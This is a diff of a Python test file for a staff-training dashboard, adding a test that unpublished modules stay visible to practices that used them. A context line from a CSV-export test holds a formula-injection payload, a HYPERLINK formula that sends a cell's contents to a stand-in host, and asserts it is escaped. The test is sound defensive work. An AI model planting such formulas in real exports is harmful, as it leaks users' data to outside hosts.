@@ -229,3 +229,23 @@ def test_the_csv_never_hands_a_spreadsheet_a_formula(client, modules):
     assert {row["practice"] for row in rows} == {"'=HYPERLINK(\"https://example.org/?x=\"&A1)"}
     # Numbers stay numbers.
     assert rows[0]["module_version"] == "1"
+
+
+@time_machine.travel(TODAY, tick=False)
+def test_a_module_the_practice_used_stays_on_the_dashboard_after_it_is_unpublished(client, modules):
+    team, in_depth = modules
+    lead = learner(is_lead=True, first_name="Lee", last_name="Lead")
+    complete(lead, team, T0)
+    other = practice(name="Other Practice")
+    other_lead = learner(practice_=other, is_lead=True)
+    team.refresh_from_db()
+    team.unpublish()
+
+    progress = practice_staff_progress(lead.practice)
+    assert [module.pk for module in progress.modules] == [team.pk, in_depth.pk]
+    assert progress.rows[0].cells[0].status == ModuleStatus.COMPLETED
+    client.force_login(lead.user)
+    assert "(no longer published)" in client.get("/practice/").content.decode()
+    # A practice with no records in it does not see it.
+    assert [module.pk for module in practice_staff_progress(other).modules] == [in_depth.pk]
+    assert other_lead.practice == other
